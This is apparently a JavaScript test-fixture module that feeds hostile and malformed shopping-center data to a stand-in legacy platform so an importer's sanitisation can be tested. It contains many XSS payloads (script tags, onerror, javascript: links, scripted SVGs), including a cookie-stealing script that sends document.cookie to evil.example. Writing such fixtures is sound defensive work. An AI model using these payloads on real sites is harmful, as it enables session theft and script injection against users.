// A data module for the legacy platform stand-in (../legacy-platform.mjs, same exports as sample.mjs):
// one center, legacy id 66, whose data is as messy as the real platform's can be — markup with
// scripts, missing and empty fields, dates in every form, umlauts and names that slugify alike, assets on a
// foreign host or answering 404, an SVG icon and a floor plan with active content, and thousands of shop rows.
//
//   startLegacyPlatform({ dataModule: LEGACY_SCENARIOS.hostile })
//
// `HOSTILE` names the id of every case, so tests refer to the case rather than to a number. The cases:
//   shops (/shops, { status: 'ok', data } with 3,000 rows: the cases below, then plain rows 660000+i)
//     6601 name and description with <script>            6602 description with <img src=x onerror=alert(1)>
//     6603 description with <a href="javascript:alert(1)">   6604 no `name` key (must be reported, not imported)
//     6605 name of blanks only (must be reported)            6606 no `kategorie` key
//     6607 no `oeffnungszeiten` key                          6608 logo null
//     6609 logo ''                                           6610 "Müller" and 6611 "Mueller" (same slug)
//     6612 "Süßwaren Größenwahn" (ß, umlauts)                 6613 logo on a foreign host (https://evil.example/x.png)
//     6614 modified null                                     6615 oeffnungszeiten as a string holding JSON
//     6616 branch of chain 960 (name with umlauts)           modified: numbers on odd ids, strings on even ids
//   news (/center-aktionen, bare array)
//     6701 vorschaubild answers 404 (${base}/media/missing/x.png)   6702 dates as numeric strings
//     6703 gueltigkeitszeitraum_von null (falls back to modified)    6704 every date null
//     6705 beschreibung with <script>, <iframe> and <style>          6706 no lang.de (only lang.en)
//     6707 gueltigkeitszeitraum_von 'demnächst' (not a date)
//   centerzeitung: 6751 pdf answers 404 (${base}/media/missing/zeitung.pdf), 6752 no pdf key
//   services: 6801 icon ${base}/media/svg/icon-hostile.svg (served from extraMedia: <script>, onload=),
//     6802 icon on a foreign host (https://evil.example/icon.svg), 6803 icon null
//   jobs 6901 (shop_id 999999: no such shop), 6902 (shop_id 6604: the nameless shop); offers 6951 (dates as
//     strings); events 6981 (beginn null, ende a string)
//   centerplan: floor 0 ${base}/media/svg/ebene-0.svg with <script>, <foreignObject>, onclick and
//     <image href="https://evil.example/x.png">; floor 1 a plain plan; floor 2 on a foreign host
//     (https://evil.example/plan.svg); floor -1 ${base}/media/svg/missing.svg (404)
//   slider: 1 button_link javascript:alert(1), 2 bild on a foreign host, 3 bild null
//   informationen: ueber_uns with <script> and <iframe>
import { weeklyHours } from './opening-hours.mjs';

export const CENTER_ID = 66;

export const HOSTILE = Object.freeze({
  centerId: CENTER_ID,
  shops: Object.freeze({
    scriptInDescription: 6601,
    imgOnerrorInDescription: 6602,
    javascriptLinkInDescription: 6603,
    noName: 6604,
    blankName: 6605,
    noCategory: 6606,
    noOpeningHours: 6607,
    logoNull: 6608,
    logoEmpty: 6609,
    mueller: 6610,
    muellerSpelledOut: 6611,
    umlautsAndEszett: 6612,
    foreignLogo: 6613,
    modifiedNull: 6614,
    openingHoursJsonString: 6615,
    branchWithUmlauts: 6616,
  }),
  /** total rows of the /shops answer */
  shopRows: 3000,
  /** the first id of the plain rows after the cases */
  plainShopIdStart: 660000,
  news: Object.freeze({
    missingImage: 6701,
    datesAsStrings: 6702,
    validFromNull: 6703,
    allDatesNull: 6704,
    scriptInContent: 6705,
    noGerman: 6706,
    dateNotADate: 6707,
  }),
  centerzeitung: Object.freeze({ missingPdf: 6751, noPdf: 6752 }),
  services: Object.freeze({ scriptIcon: 6801, foreignIcon: 6802, noIcon: 6803 }),
  jobs: Object.freeze({ unknownShop: 6901, namelessShop: 6902 }),
  offers: Object.freeze({ datesAsStrings: 6951 }),
  events: Object.freeze({ oddDates: 6981 }),
  slides: Object.freeze({ javascriptLink: 1, foreignImage: 2, noImage: 3 }),
  paths: Object.freeze({
    missingImage: '/media/missing/x.png',
    missingPdf: '/media/missing/zeitung.pdf',
    scriptIcon: '/media/svg/icon-hostile.svg',
    hostileFloor: '/media/svg/ebene-0.svg',
    missingFloor: '/media/svg/missing.svg',
  }),
  foreign: Object.freeze({
    logo: 'https://evil.example/x.png',
    icon: 'https://evil.example/icon.svg',
    floor: 'https://evil.example/plan.svg',
    slide: 'https://evil.example/slide.png',
  }),
});

const T0 = 1735689600; // 2025-01-01T00:00:00Z
const DAY = 86400;
const S = HOSTILE.shops;

export function scenario(base) {
  const img = (name) => `${base}/media/img/${name}.png`;
  const shop = (id, fields) => ({
    id,
    name: `Shop ${id}`,
    kategorie: 'Mode',
    ebene: 'EG',
    kurzbeschreibung: `Kurztext ${id}`,
    beschreibung: `<p>Beschreibung ${id}</p>`,
    logo: img(`hostile-logo-${id}`),
    titelbild: img(`hostile-cover-${id}`),
    oeffnungszeiten: weeklyHours('10:00', '20:00'),
    filialkette: null,
    tags: [],
    telefon: '+49 621 666666',
    website: '',
    modified: id % 2 ? T0 + id : String(T0 + id),
    ...fields,
  });
  const without = (record, key) => {
    const { [key]: _, ...rest } = record;
    return rest;
  };

  const cases = [
    shop(S.scriptInDescription, {
      name: 'Script-Laden<script>alert(1)</script>',
      beschreibung: '<p>Willkommen!</p><script>alert(1)</script><p>Bis bald.</p>',
    }),
    shop(S.imgOnerrorInDescription, {
      name: 'Bilder-Laden',
      beschreibung: '<p>Unser Sortiment</p><img src=x onerror=alert(1)>',
    }),
    shop(S.javascriptLinkInDescription, {
      name: 'Link-Laden',
      beschreibung: '<p>Mehr auf <a href="javascript:alert(1)">unserer Seite</a>.</p>',
    }),
    without(shop(S.noName), 'name'),
    shop(S.blankName, { name: '   ' }),
    without(shop(S.noCategory, { name: 'Ohne Kategorie' }), 'kategorie'),
    without(shop(S.noOpeningHours, { name: 'Ohne Öffnungszeiten' }), 'oeffnungszeiten'),
    shop(S.logoNull, { name: 'Logo null', logo: null }),
    shop(S.logoEmpty, { name: 'Logo leer', logo: '' }),
    shop(S.mueller, { name: 'Müller' }),
    shop(S.muellerSpelledOut, { name: 'Mueller' }),
    shop(S.umlautsAndEszett, { name: 'Süßwaren Größenwahn', kategorie: 'Süßigkeiten & Feinkost', ebene: '1. OG' }),
    shop(S.foreignLogo, { name: 'Fremdes Logo', logo: HOSTILE.foreign.logo }),
    shop(S.modifiedNull, { name: 'Ohne Änderungsdatum', modified: null }),
    shop(S.openingHoursJsonString, {
      name: 'Zeiten als Text',
      oeffnungszeiten: JSON.stringify(weeklyHours('09:00', '18:00')),
    }),
    shop(S.branchWithUmlauts, { name: 'Schöne Grüße Filiale', filialkette: { id: 960, name: 'Grüße & Söhne' } }),
  ];
  const plain = Array.from({ length: HOSTILE.shopRows - cases.length }, (_, i) =>
    shop(HOSTILE.plainShopIdStart + i, { name: `Laden ${i + 1}`, ebene: ['UG', 'EG', '1. OG'][i % 3] }),
  );

  const news = (id, fields) => ({
    id,
    kategorie: 'center_aktion',
    lang: { de: { titel: `Aktion ${id}`, untertitel: '', beschreibung: `<p>Aktion ${id}</p>` } },
    gueltigkeitszeitraum_von: T0,
    gueltigkeitszeitraum_bis: T0 + 30 * DAY,
    modified: T0,
    vorschaubild: img(`hostile-aktion-${id}`),
    ...fields,
  });
  const N = HOSTILE.news;

  return {
    centers: [
      {
        id: CENTER_ID,
        name: 'Galerie Süd & Öst',
        stadt: 'Mössingen',
        strasse: 'Große Straße 1',
        plz: '72116',
        land: 'DE',
        logo: img('hostile-center-logo'),
        website: 'https://galerie-sued.example',
      },
    ],
    byCenter: {
      [CENTER_ID]: {
        '/shops': { status: 'ok', data: [...cases, ...plain] },
        '/center-aktionen': [
          news(N.missingImage, { vorschaubild: `${base}${HOSTILE.paths.missingImage}` }),
          news(N.datesAsStrings, {
            gueltigkeitszeitraum_von: String(T0),
            gueltigkeitszeitraum_bis: String(T0 + 30 * DAY),
            modified: String(T0),
          }),
          news(N.validFromNull, { gueltigkeitszeitraum_von: null, modified: T0 + DAY }),
          news(N.allDatesNull, { gueltigkeitszeitraum_von: null, gueltigkeitszeitraum_bis: null, modified: null }),
          news(N.scriptInContent, {
            lang: {
              de: {
                titel: 'Große Eröffnung – Süßes für alle',
                untertitel: 'Straßenfest',
                beschreibung:
                  '<p>Kommen Sie vorbei!</p><script>document.location="https://evil.example/?c="+document.cookie</script>' +
                  '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style><p>Fish &amp; Chips</p>',
              },
            },
          }),
          news(N.noGerman, {
            lang: { en: { titel: 'English only', untertitel: '', beschreibung: '<p>No German text</p>' } },
          }),
          news(N.dateNotADate, { gueltigkeitszeitraum_von: 'demnächst' }),
        ],
        '/centerzeitung': [
          {
            id: HOSTILE.centerzeitung.missingPdf,
            lang: {
              de: { titel: 'Centerzeitung Herbst', untertitel: 'Ausgabe 3/2025', beschreibung: '<p>Herbst</p>' },
            },
            gueltigkeitszeitraum_von: String(T0 + 200 * DAY),
            modified: String(T0 + 199 * DAY),
            vorschaubild: img('hostile-zeitung-1'),
            pdf: `${base}${HOSTILE.paths.missingPdf}`,
          },
          {
            id: HOSTILE.centerzeitung.noPdf,
            lang: { de: { titel: 'Centerzeitung Winter', untertitel: '', beschreibung: '<p>Winter</p>' } },
            gueltigkeitszeitraum_von: null,
            modified: T0 + 300 * DAY,
            vorschaubild: img('hostile-zeitung-2'),
          },
        ],
        '/services': [
          {
            id: HOSTILE.services.scriptIcon,
            lang: { de: { titel: 'Geldautomat', beschreibung: '<p onclick="alert(1)">Im EG</p>' } },
            kategorie: 'Service',
            ebene: 'EG',
            icon: `${base}${HOSTILE.paths.scriptIcon}`,
            aktiv: 1,
          },
          {
            id: HOSTILE.services.foreignIcon,
            lang: { de: { titel: 'Wickelraum', beschreibung: '' } },
            kategorie: 'Familie',
            ebene: '1. OG',
            icon: HOSTILE.foreign.icon,
            aktiv: '1',
          },
          {
            id: HOSTILE.services.noIcon,
            lang: { de: { titel: 'Fundbüro', beschreibung: 'Information' } },
            kategorie: 'Service',
            ebene: 'UG',
            icon: null,
            aktiv: 0,
          },
        ],
        '/stellenmarkt': [
          {
            id: HOSTILE.jobs.unknownShop,
            shop_id: 999999,
            lang: { de: { titel: 'Verkäufer (m/w/d)', beschreibung: '<p>Teilzeit</p><script>alert(1)</script>' } },
            arbeitszeit: 'Teilzeit',
            kontakt_email: 'jobs@unbekannt.example',
            gueltigkeitszeitraum_von: T0,
            gueltigkeitszeitraum_bis: String(T0 + 90 * DAY),
            modified: T0,
          },
          {
            id: HOSTILE.jobs.namelessShop,
            shop_id: S.noName,
            lang: { de: { titel: 'Aushilfe (m/w/d)', beschreibung: '' } },
            arbeitszeit: 'Minijob',
            kontakt_email: 'keine-adresse',
            gueltigkeitszeitraum_von: null,
            gueltigkeitszeitraum_bis: null,
            modified: String(T0),
          },
        ],
        '/shop-angebote': [
          {
            id: HOSTILE.offers.datesAsStrings,
            shop_id: S.mueller,
            lang: {
              de: { titel: '20 % auf alles', beschreibung: '<a href="javascript:alert(1)">Jetzt</a> zugreifen' },
            },
            gueltigkeitszeitraum_von: String(T0),
            gueltigkeitszeitraum_bis: String(T0 + 7 * DAY),
            vorschaubild: HOSTILE.foreign.logo,
            modified: String(T0),
          },
        ],
        '/shop-events': [
          {
            id: HOSTILE.events.oddDates,
            shop_id: null,
            lang: { de: { titel: 'Kinderschminken', beschreibung: 'Samstag ab 11 Uhr' } },
            beginn: null,
            ende: String(T0 + 10 * DAY),
            ort: 'Eingang Süd',
            vorschaubild: `${base}${HOSTILE.paths.missingImage}`,
            modified: T0,
          },
        ],
        '/informationen': {
          status: 'ok',
          data: {
            oeffnungszeiten: 'Mo-Sa 10-20 Uhr',
            anfahrt: { beschreibung: 'Bus 7 bis Marktplatz.', parkplaetze: '800' },
            kontakt: { telefon: '+49 7473 666666', email: 'info@galerie-sued.example' },
            ueber_uns:
              '<p>Ihr Center im Süden.</p><script>alert(1)</script><iframe src="https://evil.example"></iframe>',
          },
        },
        '/slider': [
          {
            id: HOSTILE.slides.javascriptLink,
            sortierung: 1,
            bild: img('hostile-slide-1'),
            headline: 'Willkommen',
            subline: '<b>fett</b>',
            button_text: 'Los',
            button_link: 'javascript:alert(1)',
          },
          {
            id: HOSTILE.slides.foreignImage,
            sortierung: '2',
            bild: HOSTILE.foreign.slide,
            headline: 'Fremdes Bild',
            subline: '',
            button_text: 'Shops',
            button_link: '/shops',
          },
          {
            id: HOSTILE.slides.noImage,
            sortierung: null,
            bild: null,
            headline: 'Ohne Bild',
            subline: '',
            button_text: '',
            button_link: '',
          },
        ],
        '/centerplan': [
          { ebene: '0', ebene_titel: 'Erdgeschoss', ebene_kurz: 'EG', svg: `${base}${HOSTILE.paths.hostileFloor}` },
          { ebene: '1', ebene_titel: '1. Obergeschoss', ebene_kurz: '1. OG', svg: `${base}/media/svg/ebene-1.svg` },
          { ebene: '2', ebene_titel: '2. Obergeschoss', ebene_kurz: '2. OG', svg: HOSTILE.foreign.floor },
          { ebene: '-1', ebene_titel: 'Untergeschoss', ebene_kurz: 'UG', svg: `${base}${HOSTILE.paths.missingFloor}` },
        ],
        '/shop-aktionen': { status: 'nothing_found' },
        '/shop-coupons': { status: 'nothing_found' },
      },
    },
  };
}

/**
 * Floor 0 carries every kind of active content: a script element, a foreignObject with HTML, onclick/onload
 * handlers, an <image> and a <use> loading from a foreign host, a javascript: link. Other floors are plain.
 * Both have an element `shop-<id>` for the first shops of their floor.
 */
export function floorSvg(level, shops) {
  const short = level === 0 ? 'EG' : level === 1 ? '1. OG' : 'UG';
  const rects = shops
    .filter((s) => s.ebene === short)
    .slice(0, 40)
    .map(
      (s, i) =>
        `<rect id="shop-${s.id}" x="${20 + (i % 8) * 110}" y="${20 + Math.floor(i / 8) * 90}" width="100" height="80" fill="#e5e7eb"${level === 0 && i === 0 ? ' onclick="alert(1)"' : ''}/>`,
    )
    .join('\n  ');
  if (level !== 0) return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 900 500">\n  ${rects}\n</svg>\n`;
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 900 500" onload="alert('svg')">
  <script>alert(document.cookie)</script>
  <script xlink:href="https://evil.example/x.js"/>
  <foreignObject width="900" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe><img src="x" onerror="alert(2)"/></body></foreignObject>
  <image href="https://evil.example/x.png" x="0" y="0" width="10" height="10"/>
  <use xlink:href="https://evil.example/sprite.svg#a"/>
  <a href="javascript:alert(3)"><text x="10" y="490">Klick</text></a>
  ${rects}
  <path id="service-${HOSTILE.services.scriptIcon}" d="M850 450h20v20h-20z" onmouseover="alert(4)"/>
</svg>
`;
}

/** Served by the stand-in before its default icon: an SVG icon with a script and an event handler. */
export const extraMedia = {
  [HOSTILE.paths.scriptIcon]: {
    type: 'image/svg+xml',
    body: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="alert(1)"><script>alert(document.domain)</script><circle cx="12" cy="12" r="10" onclick="alert(2)"/></svg>',
  },
};
